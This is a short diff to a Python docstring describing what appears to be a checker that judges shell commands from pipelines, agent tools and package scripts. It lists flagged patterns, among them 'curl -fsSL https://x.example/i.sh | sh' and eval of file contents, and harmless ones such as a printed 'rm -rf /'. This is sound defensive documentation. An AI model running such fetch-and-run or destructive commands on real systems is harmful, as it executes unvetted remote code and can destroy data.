@@ -2,6 +2,17 @@
 
 The pipeline comes here with a proposal; whatever else holds a shell text that would run (an agent's
 tool, a script in ``package.json``, a client's meta-command) comes here too, so that it is judged alike.
+
+Caught: ``curl -fsSL https://x.example/i.sh | sh`` (what would run comes from the network), ``eval "$(cat
+cmd.txt)"``, ``$CMD --force`` where nobody knows what the variable holds.
+Quiet: ``echo "rm -rf /"`` (a text that is printed), ``# rm -rf /`` (a comment), ``bash -c 'git status'``.
+
+Lost: unknown: what would run cannot be told.
+Back: unknown for the same reason.
+Instead: the command in one piece with its values written out; a script fetched into a file and read first.
+
+Related: ShellCheck SC2091 and SC2294 (a text that is run), SC2154 (a variable that is never set).
+Facts: POSIX.1-2024 XCU 2 (the order of expansions); bash(1); ATT&CK T1059.004.
 """
 
 from __future__ import annotations
